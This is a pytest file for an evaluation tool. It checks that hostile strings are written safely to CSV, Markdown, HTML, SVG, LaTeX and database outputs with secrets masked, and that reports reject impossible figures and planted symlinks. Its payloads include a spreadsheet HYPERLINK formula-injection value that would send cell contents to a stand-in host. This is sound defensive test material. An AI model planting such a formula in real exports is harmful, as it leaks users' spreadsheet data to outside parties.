"""The evaluation folder as a record: hostile values pass every sink and read back whole (secrets
masked, nothing else changed), a smaller selection never rewrites a larger one's summary, and the
readers refuse impossible figures and planted links with one line naming the file and the field."""

from __future__ import annotations

import csv
import html.parser
import io
import json
import re
import sqlite3
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from ethos.cli import main
from ethos.redaction import MASK, neutral, redact

SECRET = "sk-record-0123456789abcdef"
PAYLOADS = {
    "url query in quotes": 'See "https://example.com/page?id=5" now',
    "key before a quote": 'api_key=abc123secret" and more',
    "token in a base url": 'http://127.0.0.1:8080/v1?token=abc"',
    "formula": '=HYPERLINK("http://x.example/?x="&A1, "click")',
    "tab formula": "\t=1+1",
    "escapes": 'back\\slash \\" \\n \\u0041 {braces} 100% $x$ _u_ ~ ^ # &',
    "colour codes": "esc\x1b[31mred\x1b[0m",
    "env key": f"the key is {SECRET}!",
}


@pytest.fixture(autouse=True)
def secret_in_environment(monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)


# Each sink writes the value and reads it back as its medium's reader would.


def _json(text, tmp_path):
    from ethos.inputs import write_json

    write_json(tmp_path / "f.json", {"t": text})
    return json.loads((tmp_path / "f.json").read_text("utf-8"))["t"]


def _jsonl(text, tmp_path):
    from ethos.inputs import append_text, json_line

    for _ in range(2):
        append_text(tmp_path / "r.jsonl", json_line({"t": text}))
    values = [json.loads(line)["t"] for line in (tmp_path / "r.jsonl").read_text("utf-8").splitlines()]
    assert values[0] == values[1]
    return values[0]


def _sqlite(text, tmp_path):
    from langchain_core.messages import AIMessage
    from langchain_core.outputs import ChatGeneration

    from ethos.agents.models.cache import SqliteCallCache

    cache = SqliteCallCache(tmp_path / "cache.sqlite", "test")
    cache.update("prompt", "llm", [ChatGeneration(message=AIMessage(content=text))])
    (row,) = sqlite3.connect(tmp_path / "cache.sqlite").execute("SELECT value FROM calls").fetchone()
    json.loads(row)  # the row itself is JSON
    (replayed,) = cache.lookup("prompt", "llm")
    return replayed.message.content


def _csv(text, tmp_path):
    from ethos.cli.view import _csv

    (row,) = list(csv.reader(io.StringIO(_csv([[text, "x"]]))))
    assert row[1] == "x"
    return row[0].removeprefix("'") if row[0].startswith("'") and text.lstrip("\t")[:1] in "=+-@\t" else row[0]


def _markdown(text, tmp_path):
    from ethos.evaluation.report import _md

    line = f"| {_md(text)} | x |"
    cells = re.split(r"(?<!\\)\|", line)[1:-1]  # a table row keeps its two cells
    assert len(cells) == 2 and cells[1].strip() == "x"
    import html

    return html.unescape(re.sub(r"\\([\\[\]|`])", r"\1", cells[0].strip()))


class _Text(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.text = ""

    def handle_data(self, data):
        self.text += data


def _html(text, tmp_path):
    from ethos.cli.run_page import templates

    parser = _Text()
    parser.feed(templates().from_string("<p>{{ value }}</p>").render(value=text))
    return parser.text


def _svg(text, tmp_path):
    from ethos.evaluation.charts import bars

    root = ET.fromstring(bars(["a"], {text: [0.5]}))  # valid XML, a series named by the value: its legend
    return [t.text for t in root.iter("{http://www.w3.org/2000/svg}text")][-1]


_UNTEX = {r"\textbackslash{}": "\\", r"\textasciitilde{}": "~", r"\textasciicircum{}": "^"}


def _latex(text, tmp_path):
    from ethos.evaluation.study_table import _tex

    tex = _tex(text)
    unescaped = re.sub(
        r"\\textbackslash\{\}|\\textasciitilde\{\}|\\textasciicircum\{\}|\\([&%$#_{}])", lambda m: _UNTEX.get(m[0], m[1]), tex
    )
    braces = re.sub(r"\\textbackslash\{\}|\\textasciitilde\{\}|\\textasciicircum\{\}|\\[{}]", "", tex)
    assert braces.count("{") == braces.count("}") == 0  # every brace of the value escaped: the document's braces stay balanced
    return unescaped


SINKS = {"json": _json, "jsonl": _jsonl, "sqlite": _sqlite, "csv": _csv, "markdown": _markdown, "html": _html, "svg": _svg, "latex": _latex}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
@pytest.mark.parametrize("sink", SINKS.values(), ids=SINKS.keys())
def test_every_sink_reads_back_its_value_with_only_secrets_masked(sink, payload, tmp_path):
    expected = redact(payload)
    if sink in (_csv, _markdown, _html, _svg, _latex):  # text media show a control character as its escape
        expected = neutral(expected)
    if sink is _markdown:  # one line: a table cell
        expected = " ".join(expected.split())
    got = sink(payload, tmp_path)
    assert got == expected
    assert SECRET not in got and ("secret" not in payload or MASK in got)


def test_the_payloads_are_masked_where_they_hold_a_secret():
    masked = {name: redact(text) for name, text in PAYLOADS.items()}
    assert masked["url query in quotes"] == 'See "https://example.com/page?id=[redacted]" now'
    assert masked["token in a base url"] == 'http://127.0.0.1:8080/v1?token=[redacted]"'
    assert masked["key before a quote"] == 'api_key=[redacted]" and more'
    assert masked["escapes"] == PAYLOADS["escapes"]  # nothing secret: untouched


# ---- an evaluation folder -------------------------------------------------------------------------


def _items(n: int, question: str = "Question {i}: which is kinder?") -> list[dict]:
    return [
        {"question": question.format(i=i), "options": ["Tell", "Wait"], "attribute": "low_ambiguity",
         "gold_distribution": [0.7, 0.3], "pred_distribution": None, "id": f"L_{i}"}
        for i in range(n)
    ]  # fmt: skip


def _data(tmp_path: Path, items: list[dict]) -> Path:
    folder = tmp_path / "data"
    folder.mkdir(exist_ok=True)
    (folder / "vital_distributional_moralchoice.json").write_text(json.dumps(items))
    return folder


def _eval(data: Path, out: Path, *extra: str) -> int:
    return main(["eval", "--task", "distributional-moralchoice", "--data", str(data), "--method", "vanilla", "--model", "fake",
                 "--no-progress", "--out", str(out), *extra])  # fmt: skip


def test_a_smaller_selection_never_rewrites_a_larger_ones_summary(tmp_path, capsys):
    data, out = _data(tmp_path, _items(8)), tmp_path / "o"
    assert _eval(data, out, "--limit", "6") == 0
    first = json.loads((out / "vanilla" / "metrics.json").read_text())
    assert _eval(data, out, "--limit", "2") == 0
    assert "holds 6 items (this command selected 2)" in capsys.readouterr().err
    metrics = json.loads((out / "vanilla" / "metrics.json").read_text())
    assert metrics["n"] == 6 and metrics["selection"] == {"limit": 2, "sample": "spread", "sample_seed": 0, "selected": 2, "held": 6}
    assert (metrics["jsd"], metrics["jsd_ci"]) == (first["jsd"], first["jsd_ci"])
    assert len(json.loads((out / "vanilla" / "predictions.json").read_text())) == 6
    assert len(json.loads((out / "vanilla" / "scores.json").read_text())["metrics"]["jsd"]) == 6
    assert _eval(data, out, "--limit", "8") == 0  # a larger one adds its items
    assert json.loads((out / "vanilla" / "metrics.json").read_text())["n"] == 8


def test_a_hostile_question_leaves_every_file_readable(tmp_path, capsys):
    question = '=HYPERLINK("http://x.example/?x="&A1) Q{i}: see "https://example.com/p?id=5" \\" {{x}}'
    data, out = _data(tmp_path, _items(3, question)), tmp_path / "o"
    assert _eval(data, out) == 0
    folder = out / "vanilla"
    for name in ("predictions.json", "scores.json", "metrics.json", "config.json"):
        json.loads((folder / name).read_text())  # every file parses
    lines = [json.loads(line) for line in (folder / "results.jsonl").read_text().splitlines()]
    assert len(lines) == 3
    stored = json.loads((folder / "predictions.json").read_text())
    assert stored[0]["question"] == redact(question.format(i=0))  # the text as given, its query value masked
    capsys.readouterr()
    assert main(["score", str(folder / "predictions.json")]) == 0
    assert _eval(data, out) == 0 and "unreadable" not in capsys.readouterr().err  # the rerun reads every line back
    assert main(["view", str(out), "--out", str(tmp_path / "v.html")]) == 0
    rows = list(csv.reader(io.StringIO((tmp_path / "v-items.csv").read_text())))
    assert len(rows) == 4


@pytest.mark.parametrize(
    "file, change, named",
    [
        ("metrics.json", {"jsd": -7.5}, "field 'jsd' is -7.5"),
        ("metrics.json", {"jsd_ci": [-9.0, -1.0]}, "field 'jsd_ci'"),
        ("metrics.json", {"most_likely_correct": 3}, "field 'most_likely_correct' is 3"),
        ("metrics.json", {"n": -4}, "field 'n' is -4"),
        ("scores.json", None, "field 'jsd' of item"),
    ],
)
def test_a_report_refuses_an_impossible_value_naming_the_file_and_field(tmp_path, capsys, file, change, named):
    data, out = _data(tmp_path, _items(4)), tmp_path / "o"
    assert _eval(data, out, "--method", "vanilla,prompting") == 0  # two rows: the report pairs them on their scores
    path = out / "vanilla" / file
    stored = json.loads(path.read_text())
    if change is None:
        stored["metrics"]["jsd"]["L_0"] = -50
    else:
        stored |= change
    path.write_text(json.dumps(stored))
    capsys.readouterr()
    assert main(["report", str(out), "--out", str(tmp_path / "r")]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and str(path) in err and named in err


def test_a_results_file_is_never_read_through_a_planted_link(tmp_path, capsys):
    data = _data(tmp_path, _items(4))
    assert _eval(data, tmp_path / "a") == 0
    assert main(["eval", "--task", "distributional-moralchoice", "--data", str(data), "--method", "prompting", "--model", "fake",
                 "--no-progress", "--out", str(tmp_path / "a")]) == 0  # fmt: skip
    planted = tmp_path / "a" / "vanilla" / "metrics.json"
    planted.unlink()
    planted.symlink_to(tmp_path / "a" / "prompting" / "metrics.json")
    capsys.readouterr()
    assert main(["report", str(tmp_path / "a"), "--out", str(tmp_path / "r")]) == 2
    assert "a link, not read" in capsys.readouterr().err
